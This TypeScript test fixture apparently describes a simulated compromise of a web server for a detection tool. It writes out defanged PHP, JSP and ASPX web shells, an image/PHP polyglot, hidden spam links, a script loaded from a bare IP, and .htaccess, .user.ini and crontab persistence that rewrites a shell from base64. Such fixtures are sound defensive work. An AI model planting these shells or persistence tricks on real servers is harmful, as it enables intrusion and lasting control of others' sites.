import { type Infection, type Item, miner, minerWords } from '../host-part.ts'

const blog = '/srv/sites/blog'
const shop = '/srv/sites/shop/public'
const portal = '/srv/sites/portal'
const uploads = `${blog}/wp-content/uploads`

/** Each ends before it does anything: texts to be found, no programs. */
const page = (path: string, content: string, owner = 'www-data'): Item => ({
  kind: 'file',
  path,
  content: { text: content },
  owner,
})

/** A picture whose comment is a page (JPEG, marker COM). */
const polyglot = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010101004800480000fffe0030', 'hex'),
  Buffer.from('<?php exit; @eval($_POST["range"]); ?>'),
  Buffer.from(Array.from({ length: 400 }, (_, at) => (at * 31 + 7) % 251)),
  Buffer.from('ffd9', 'hex'),
]).toString('base64')

const planted = Buffer.from('<?php exit; @eval($_POST["range"]);').toString('base64')
const harmless = Buffer.from('/* range: nothing is done here */ void 0').toString('base64')
const links = ['casino online', 'payday loan', 'buy viagra']
  .map(words => `<a href="http://spam.invalid/${words.length}">${words}</a>`)
  .join('')

/** Through a hole in a plug-in: doors in three languages, pages that sell links, and what brings all of it back. */
export const webRoots: Infection = {
  family: 'web-roots',
  known: false,
  title: 'Web shells and injected pages on a server of sites',
  story: [
    'A plug-in of a blog took an upload; the page that was uploaded runs what a visitor sends, and dropped a miner.',
    'Pages of the blog got hidden links, a script from a bare address and a script in base64.',
    'A picture among the uploads is a page, and folders were told to run pictures and to run a file before each page.',
    'A crontab writes the first page anew.',
  ],
  items: [
    page(
      `${uploads}/2026/10/class-help.php`,
      '<?php exit;\nif (isset($_REQUEST["c"])) { system(base64_decode($_REQUEST["c"])); }\n',
    ),
    page(
      `${portal}/includes/session.inc.php`,
      '<?php exit; $k = "e45e329feb5d925b"; $post = file_get_contents("php://input");\nfor ($i = 0; $i < strlen($post); $i++) { $post[$i] = $post[$i]^$k[$i+1&15]; }\neval($post);\n',
    ),
    page(
      '/opt/tomcat/webapps/app/help.jsp',
      '<%@ page import="java.io.*" %>\n<% if (true) return; %>\n<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
      'root',
    ),
    page(
      `${portal}/legacy/error.aspx`,
      '<%@ Page Language="Jscript" %><% Response.End(); eval(Request.Item["range"],"unsafe"); %>\n',
      'root',
    ),
    { kind: 'file', path: `${uploads}/2026/10/banner.jpg`, content: { base64: polyglot }, owner: 'www-data' },
    // Pages of the site, with something more in them.
    {
      kind: 'changed-line',
      path: `${blog}/wp-content/themes/old/footer.php`,
      was: '<p>Proudly made by hand.</p>',
      text: `<p>Proudly made by hand.</p><div style="position:absolute;left:-9999px;">${links}</div>`,
    },
    {
      kind: 'line',
      path: `${blog}/wp-content/themes/old/header.php`,
      text: '<script src="http://203.0.113.77/j/count.js"></script>',
    },
    {
      kind: 'line',
      path: `${blog}/wp-content/themes/old/assets/app.js`,
      text: `eval(atob("${harmless}"));`,
    },
    {
      kind: 'changed-line',
      path: `${shop}/index.php`,
      was: '<?php',
      text: `<?php${' '.repeat(300)}@include "\\057srv/\\163ites/\\142log/x.ico"; $GLOBALS["range"] = 1;`,
    },
    // What brings it back.
    {
      kind: 'line',
      path: `${uploads}/2026/.htaccess`,
      text: 'AddType application/x-httpd-php .jpg .png',
      owner: 'www-data',
    },
    {
      kind: 'line',
      path: `${portal}/.user.ini`,
      text: `auto_prepend_file = ${portal}/images/.session.ico`,
      owner: 'www-data',
    },
    page(`${portal}/images/.session.ico`, '<?php exit; @eval(base64_decode($_COOKIE["range"]));\n'),
    {
      kind: 'line',
      path: '/var/spool/cron/crontabs/www-data',
      text: `*/20 * * * * test -f ${uploads}/2026/10/class-help.php || echo ${planted} | base64 -d > ${uploads}/2026/10/class-help.php`,
      owner: 'www-data',
      mode: 0o600,
    },
    // What it dropped.
    { kind: 'directory', path: '/var/tmp/.sess', owner: 'www-data' },
    {
      kind: 'file',
      path: '/var/tmp/.sess/php-worker',
      content: { lookalike: miner, words: `${minerWords}\nweb roots` },
      owner: 'www-data',
      mode: 0o755,
    },
    {
      kind: 'line',
      path: '/var/spool/cron/crontabs/www-data',
      text: '*/7 * * * * /var/tmp/.sess/php-worker >/dev/null 2>&1',
      owner: 'www-data',
      mode: 0o600,
    },
  ],
}
